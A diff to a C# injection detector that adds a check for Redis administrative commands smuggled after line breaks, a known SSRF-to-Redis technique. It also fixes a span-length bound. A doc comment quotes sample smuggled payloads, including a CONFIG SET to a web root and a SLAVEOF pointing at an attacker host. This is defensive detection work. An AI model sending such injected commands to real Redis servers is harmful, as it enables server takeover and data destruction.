@@ -748,6 +748,14 @@ internal static class MiscDetector
         || rest.StartsWith("from:") || IsSmtpCommand(rest);
 
     /// <summary>An SMTP command opening a line: "rcpt to:", "mail from:" (a line break before it injects a recipient or a message).</summary>
+    /// <summary>
+    /// A Redis command that reconfigures or takes over the server, on a line of its own after a break: the protocol smuggling
+    /// of an SSRF into Redis ("key\r\nCONFIG SET dir /var/www/html\r\n", "\nSLAVEOF attacker.example 6379").
+    /// </summary>
+    private static bool IsRedisAdminCommand(ReadOnlySpan<char> line) =>
+        line.StartsWith("config set ") || line.StartsWith("slaveof ") || line.StartsWith("replicaof ") || line.StartsWith("module load ")
+            || line.StartsWith("flushall") || line.StartsWith("eval \"") || line.StartsWith("script load ");
+
     private static bool IsSmtpCommand(ReadOnlySpan<char> line) =>
         line.StartsWith("rcpt to:") || line.StartsWith("mail from:") || line.StartsWith("rcpt to :") || line.StartsWith("mail from :");
 
@@ -789,9 +797,9 @@ internal static class MiscDetector
             }
 
             i = j;
-            if (IsSmtpCommand(t[j..]))
+            if (IsSmtpCommand(t[j..]) || IsRedisAdminCommand(t[j..]))
             {
-                sink.Add(RuleKey.CrlfHeaderInjection, p, j + 8 - p);
+                sink.Add(RuleKey.CrlfHeaderInjection, p, Math.Min(j + 8, t.Length) - p);
                 return;
             }
 
